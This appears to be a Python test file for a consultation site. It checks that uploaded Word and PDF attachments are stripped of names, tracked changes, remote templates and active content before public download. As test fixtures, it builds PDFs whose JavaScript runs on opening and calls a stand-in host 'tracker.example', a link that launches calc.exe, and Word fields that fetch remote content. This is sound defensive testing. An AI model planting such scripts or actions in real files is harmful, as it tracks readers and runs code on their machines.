"""Documents as people send them, reviewed, annotated, with macros or pictures that name people, and how a
test sends one through the comment form and checks what a reader downloads names nobody and does nothing."""

import io
import re
import zipfile

import docx
from fpdf import FPDF
from lxml import etree
from PIL import ExifTags, Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NameObject,
    StreamObject,
    TextStringObject,
)
from sqlalchemy import select

from consult.accounts.models import StaffRoleName
from consult.comments.models import Comment, CommentState
from consult.extensions import db
from consult.rounds.models import ModerationMode
from tests.factories import comment_form, make_open_round
from tests.helpers import make_user, sign_in, submit

#: A reviewer and a commenter, in two scripts, with their initials: none may be left in a served file.
REVIEWER, REVIEWER_INITIALS = "Zhang Wei", "ZW"


COMMENTER, COMMENTER_INITIALS = "Amira Haddad", "AH"


REVIEWER_HAN, COMMENTER_ARABIC = "张伟", "أميرة حداد"


NAMES = (REVIEWER, COMMENTER, REVIEWER_HAN, COMMENTER_ARABIC, "amira.haddad", "zhangwei")


INITIALS = (REVIEWER_INITIALS, COMMENTER_INITIALS)


#: The host a tracker in a file would call: nothing in a served file may point at it.
TRACKER = "tracker.example"


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


W15 = "http://schemas.microsoft.com/office/word/2012/wordml"


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _zip(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(
                name, content, zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            )
    return output.getvalue()


def _add_relationships(rels: bytes, *relationships: str) -> bytes:
    return rels.replace(b"</Relationships>", "".join(relationships).encode() + b"</Relationships>")


def _add_overrides(types: bytes, *parts: tuple[str, str]) -> bytes:
    overrides = "".join(f'<Override PartName="{name}" ContentType="{kind}"/>' for name, kind in parts)
    return types.replace(b"</Types>", overrides.encode() + b"</Types>")


_CHANGE = f'w:author="{REVIEWER}" w:date="2025-03-01T10:00:00Z"'


#: What Word writes when Zhang Wei reviews with tracked changes and Amira Haddad comments: an insertion, a
#: deletion, a moved sentence, a reformatted run, a deleted paragraph end, a comment on a passage, revision
#: ids, a picture and a text fetched by fields, the author's name in an AUTHOR field, and two links.
_REVIEWED_BODY = f"""
<w:p w:rsidR="00A1B2C3" w:rsidRDefault="00D4E5F6">
<w:r><w:t xml:space="preserve">Detention conditions </w:t></w:r>
<w:ins w:id="101" {_CHANGE}><w:r w:rsidR="00A1B2C3">
<w:t xml:space="preserve">have improved </w:t></w:r></w:ins>
<w:del w:id="102" {_CHANGE}><w:r><w:delText xml:space="preserve">are appalling </w:delText></w:r></w:del>
<w:r><w:rPr><w:b/><w:rPrChange w:id="103" {_CHANGE}><w:rPr/></w:rPrChange></w:rPr>
<w:t>since 2023.</w:t></w:r></w:p>
<w:p><w:pPr><w:rPr><w:del w:id="104" {_CHANGE}/></w:rPr></w:pPr>
<w:r><w:t xml:space="preserve">Joined </w:t></w:r></w:p>
<w:p><w:r><w:t>paragraph.</w:t></w:r></w:p>
<w:p><w:moveFrom w:id="105" {_CHANGE}><w:r><w:t>Moved away.</w:t></w:r></w:moveFrom></w:p>
<w:p><w:moveTo w:id="106" {_CHANGE}><w:r><w:t>Moved here.</w:t></w:r></w:moveTo></w:p>
<w:p><w:commentRangeStart w:id="0"/><w:r><w:t>The commented passage.</w:t></w:r><w:commentRangeEnd w:id="0"/>
<w:r><w:rPr><w:rStyle w:val="CommentReference"/></w:rPr><w:commentReference w:id="0"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://{TRACKER}/pixel.png" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>[the picture]</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://{TRACKER}/text.docx&quot; ">
<w:r><w:t>[the text]</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:t xml:space="preserve">Written by </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> AUTHOR </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r>
<w:r><w:t>{REVIEWER}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="rIdSource"><w:r><w:t>The source.</w:t></w:r></w:hyperlink>
<w:hyperlink r:id="rIdShare"><w:r><w:t>The share.</w:t></w:r></w:hyperlink></w:p>
"""


_WORD_COMMENTS = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{COMMENTER}" w:date="2025-03-02T09:00:00Z"
 w:initials="{COMMENTER_INITIALS}"><w:p><w:r><w:annotationRef/></w:r>
<w:r><w:t>A remark by the reviewer, who is {COMMENTER_ARABIC}.</w:t></w:r></w:p></w:comment></w:comments>"""


_PEOPLE = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w15:people xmlns:w15="{W15}"><w15:person w15:author="{COMMENTER}"><w15:presenceInfo w15:providerId="AD"
 w15:userId="S::amira.haddad@example.org::8f6e"/></w15:person><w15:person w15:author="{REVIEWER_HAN}">
<w15:presenceInfo w15:providerId="None" w15:userId="{REVIEWER}"/></w15:person></w15:people>"""


_COMMENTS_EXTENDED = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w15:commentsEx xmlns:w15="{W15}"><w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/></w15:commentsEx>"""


_COMMENTS_IDS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w16cid:commentsIds xmlns:w16cid="http://schemas.microsoft.com/office/word/2016/wordml/cid">
<w16cid:commentId w16cid:paraId="1A2B3C4D" w16cid:durableId="2B3C4D5E"/></w16cid:commentsIds>"""


def reviewed_docx() -> bytes:
    """A Word file made by python-docx, then reviewed: tracked changes by Zhang Wei, a comment by Amira
    Haddad, people.xml naming both, a remote template, fields that fetch, and the author in core.xml."""
    document = docx.Document()
    document.add_paragraph("Our testimony.")
    document.core_properties.author = REVIEWER
    output = io.BytesIO()
    document.save(output)
    members = _members(output.getvalue())
    members["word/document.xml"] = members["word/document.xml"].replace(
        b"<w:sectPr", _REVIEWED_BODY.encode() + b"<w:sectPr", 1
    )
    members["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)",
        rb'\1<w:attachedTemplate r:id="rIdTemplate"/><w:trackRevisions/>',
        members["word/settings.xml"],
        count=1,
    )
    members["word/settings.xml"] = members["word/settings.xml"].replace(
        b"</w:settings>",
        b'<w:rsids><w:rsidRoot w:val="00A1B2C3"/><w:rsid w:val="00D4E5F6"/></w:rsids></w:settings>',
    )
    members["word/_rels/settings.xml.rels"] = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS}">'
        f'<Relationship Id="rIdTemplate" Type="{R}/attachedTemplate" '
        f'Target="http://{TRACKER}/templates/Normal.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    members["word/comments.xml"] = _WORD_COMMENTS.encode()
    members["word/people.xml"] = _PEOPLE.encode()
    members["word/commentsExtended.xml"] = _COMMENTS_EXTENDED.encode()
    members["word/commentsIds.xml"] = _COMMENTS_IDS.encode()
    members["word/_rels/document.xml.rels"] = _add_relationships(
        members["word/_rels/document.xml.rels"],
        f'<Relationship Id="rIdComments" Type="{R}/comments" Target="comments.xml"/>',
        '<Relationship Id="rIdPeople" Type="http://schemas.microsoft.com/office/2011/relationships/people" '
        'Target="people.xml"/>',
        '<Relationship Id="rIdCommentsEx" Target="commentsExtended.xml" '
        'Type="http://schemas.microsoft.com/office/2011/relationships/commentsExtended"/>',
        '<Relationship Id="rIdCommentsIds" Target="commentsIds.xml" '
        'Type="http://schemas.microsoft.com/office/2016/09/relationships/commentsIds"/>',
        f'<Relationship Id="rIdSource" Type="{R}/hyperlink" Target="https://www.ohchr.org/en/hr-bodies/upr" '
        'TargetMode="External"/>',
        f'<Relationship Id="rIdShare" Type="{R}/hyperlink" Target="file://{TRACKER}/share/notes.docx" '
        'TargetMode="External"/>',
        f'<Relationship Id="rIdPixel" Type="{R}/image" Target="http://{TRACKER}/linked.png" '
        'TargetMode="External"/>',
    )
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    members["[Content_Types].xml"] = _add_overrides(
        members["[Content_Types].xml"],
        ("/word/comments.xml", f"{word}.comments+xml"),
        ("/word/people.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.people+xml"),
        ("/word/commentsExtended.xml", f"{word}.commentsExtended+xml"),
        ("/word/commentsIds.xml", f"{word}.commentsIds+xml"),
    )
    return _zip(members)


def _pdf_text() -> bytes:
    """A page of text written by fpdf2."""
    page = FPDF()
    page.add_page()
    page.set_font("helvetica", size=12)
    page.cell(text="Visible testimony about detention.")
    return bytes(page.output())


def _javascript(writer: PdfWriter, code: str) -> IndirectObject:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject(code),
            }
        )
    )


def _annotation(writer: PdfWriter, entries: dict) -> IndirectObject:
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (50, 700, 250, 720)]),
                **{NameObject(key): value for key, value in entries.items()},
            }
        )
    )


def annotated_pdf() -> bytes:
    """A PDF made by fpdf2 and pypdf: a note and a highlight by Amira Haddad, a link that launches a program,
    a safe web link, a form field filled with a name, document and page JavaScript run on opening, a file
    embedded in it, and the author in its document information."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_pdf_text())))
    page = writer.pages[0]
    popup = _annotation(writer, {"/Subtype": NameObject("/Popup"), "/T": TextStringObject(COMMENTER)})
    note = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Text"),
            "/T": TextStringObject(COMMENTER_ARABIC),
            "/Contents": TextStringObject(f"Check this, {REVIEWER}"),
            "/Popup": popup,
        },
    )
    highlight = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Highlight"),
            "/T": TextStringObject(COMMENTER),
            "/Contents": TextStringObject(COMMENTER_INITIALS),
            "/QuadPoints": ArrayObject([FloatObject(v) for v in (50, 720, 250, 720, 50, 700, 250, 700)]),
        },
    )
    launch = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Link"),
            "/A": DictionaryObject(
                {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}
            ),
        },
    )
    tracked_link = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Link"),
            "/A": DictionaryObject(
                {
                    NameObject("/S"): NameObject("/URI"),
                    NameObject("/URI"): TextStringObject("https://www.ohchr.org/"),
                }
            ),
            "/AA": DictionaryObject(
                {NameObject("/E"): _javascript(writer, f"fetch('http://{TRACKER}/hover')")}
            ),
        },
    )
    field = _annotation(
        writer,
        {
            "/Subtype": NameObject("/Widget"),
            "/FT": NameObject("/Tx"),
            "/T": TextStringObject("reviewer"),
            "/V": TextStringObject(REVIEWER),
            "/AA": DictionaryObject({NameObject("/K"): _javascript(writer, "app.alert('typed')")}),
        },
    )
    page[NameObject("/Annots")] = ArrayObject([note, popup, highlight, launch, tracked_link, field])
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript(writer, "app.alert('page')")})
    root = writer.root_object
    root[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([field]), NameObject("/XFA"): TextStringObject("<xdp/>")}
    )
    root[NameObject("/OpenAction")] = _javascript(writer, f"this.submitForm('http://{TRACKER}/opened')")
    root[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [TextStringObject("tracker"), _javascript(writer, f"fetch('http://{TRACKER}/js')")]
                    )
                }
            )
        }
    )
    writer.add_attachment("contacts.txt", f"{REVIEWER}: +000 000".encode())
    writer.add_metadata({"/Author": REVIEWER, "/Title": f"By {COMMENTER}"})
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _xml_values(part: bytes) -> list[str]:
    """Every attribute value and text of an XML part."""
    root = etree.fromstring(part, etree.XMLParser(resolve_entities=False, no_network=True))
    values = []
    for element in root.iter():
        if isinstance(element.tag, str):
            values += list(element.attrib.values())
        values += [element.text or "", element.tail or ""]
    return values


def _assert_names_nobody_and_fetches_nothing(data: bytes) -> dict[str, bytes]:
    """Every member of a zip searched for the names, the initials, the tracker and external targets."""
    members = _members(data)
    for name, content in members.items():
        for person in (*NAMES, TRACKER):
            assert person.encode() not in content, f"{person} in {name}"
        if name.endswith((".xml", ".rels")):
            values = [value.strip() for value in _xml_values(content)]
            for initials in INITIALS:
                assert initials not in values, f"{initials} in {name}"
        if name.endswith(".rels"):
            for relationship in etree.fromstring(content):
                if relationship.get("TargetMode") == "External":
                    assert relationship.get("Type").endswith("/hyperlink"), (
                        f"{relationship.get('Type')} in {name}"
                    )
                    assert relationship.get("Target").startswith(("https://", "http://", "mailto:")), name
    return members


def _pdf_strings(reader: PdfReader) -> tuple[set[str], set[str]]:
    """Every dictionary key and every string the document holds, in every object of the file."""
    keys, strings = set(), set()
    for number in range(1, len(reader.xref_objStm) + max(reader.trailer["/Size"], 1)):
        try:
            item = reader.get_object(number)
        except Exception:  # noqa: S112 - numbers without an object
            continue
        waiting, seen = [item], set()
        while waiting:
            item = waiting.pop()
            if isinstance(item, IndirectObject) or id(item) in seen:
                continue
            seen.add(id(item))
            if isinstance(item, DictionaryObject):
                keys |= set(item.keys())
                waiting += list(item.values())
                if isinstance(item, StreamObject):
                    strings.add(item.get_data().decode("latin-1"))
            elif isinstance(item, ArrayObject):
                waiting += list(item)
            elif isinstance(item, str):
                strings.add(str(item))
    return keys, strings


def _assert_pdf_names_nobody_and_does_nothing(data: bytes) -> PdfReader:
    reader = PdfReader(io.BytesIO(data))
    keys, strings = _pdf_strings(reader)
    for active in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/EmbeddedFile"):
        assert active not in keys and all(active not in s for s in strings), active
    assert "/AcroForm" not in keys and "/XFA" not in keys
    for person in (*NAMES, *INITIALS, TRACKER, "calc.exe"):
        assert not any(person in s for s in strings), person
        assert person.encode() not in data and person.encode("utf-16-be") not in data, person
    annotations = [a.get_object() for page in reader.pages for a in page.get("/Annots", [])]
    assert [a["/Subtype"] for a in annotations] == ["/Link"]  # the web link, without its hover script
    assert annotations[0]["/A"]["/URI"] == "https://www.ohchr.org/"
    assert not reader.metadata and reader.xmp_metadata is None
    return reader


def _approve(app, moderator_client, body: str) -> None:
    """A moderator opens the queue, finds the comment and approves it through the decision form."""
    queue = moderator_client.get("/moderation/").get_data(as_text=True)
    links = set(re.findall(r'href="(/moderation/comments/[^"/?#]+)"', queue))
    for link in links:
        page = moderator_client.get(link).get_data(as_text=True)
        if body not in page:
            continue
        action = re.search(r'action="([^"]+/decide)"', page).group(1)
        seen = re.search(r'name="seen_version"[^>]*value="(\d+)"', page) or re.search(
            r'value="(\d+)"[^>]*name="seen_version"', page
        )
        data = {"decision": "approve", "reason": "", "note": ""}
        if seen:
            data["seen_version"] = seen.group(1)
        answer = submit(moderator_client, action, data, page=link)
        assert answer.status_code == 302, answer.get_data(as_text=True)[:1000]
        return
    raise AssertionError("the comment is not in the moderation queue")


def _downloads_signed_out(app, expected: int) -> list[bytes]:
    """The round's public page read by a visitor, and every attachment it links downloaded."""
    visitor = app.test_client()
    page = visitor.get("/rounds/open-round").get_data(as_text=True)
    links = re.findall(r'href="(/comments/attachments/[^"]+)"', page)
    assert len(links) == expected, page[:3000]
    files = []
    for link in links:
        with visitor.get(link) as answer:
            assert answer.status_code == 200
            files.append(answer.get_data())
    return files


def _send(app, client, body: str, files: list[tuple[bytes, str]], publication: str = "anonymous"):
    return submit(
        client,
        "/comments/new/open-round",
        comment_form(
            target="round",
            body=body,
            publication=publication,
            attachments=[(io.BytesIO(data), name) for data, name in files],
        ),
        page="/comments/new/open-round?target=round",
        content_type="multipart/form-data",
    )


def _published_anonymously(
    app, files: list[tuple[bytes, str]], publication: str = "anonymous"
) -> list[bytes]:
    """Files sent with a comment through the form, approved by a moderator, and downloaded signed out."""
    with app.app_context():
        make_open_round(mode=ModerationMode.pre)
    contributor, moderator = app.test_client(), app.test_client()
    sign_in(contributor, app, make_user(app, name=REVIEWER))
    sign_in(moderator, app, make_user(app, roles=(StaffRoleName.moderator,)))
    body = "Our evidence is attached."
    sent = _send(app, contributor, body, files, publication)
    assert sent.status_code == 302, sent.get_data(as_text=True)[:2000]
    _approve(app, moderator, body)
    with app.app_context():
        assert db.session.scalar(select(Comment)).state is CommentState.published
    return _downloads_signed_out(app, len(files))


def macro_enabled_docx() -> bytes:
    """A Word file saved as macro-enabled (.docm) under a .docx name: its main part says so."""
    members = _members(reviewed_docx())
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return _zip(members)


#: A photographer, a camera and a place: none may be left in a picture inside a served document.
PHOTOGRAPHER, HOLDER, DESCRIBED = "Tomasz Wierzbicki", "Leila Qadri", "李秀英"


def described_png() -> bytes:
    """A PNG with text, international text and EXIF chunks naming people."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", PHOTOGRAPHER)
    text.add_itxt("Description", f"by {DESCRIBED}")
    text.add_text("Software", "ZQXTool")
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = HOLDER
    output = io.BytesIO()
    Image.new("RGB", (32, 32), (0, 90, 200)).save(output, "PNG", pnginfo=text, exif=exif.tobytes())
    return output.getvalue()
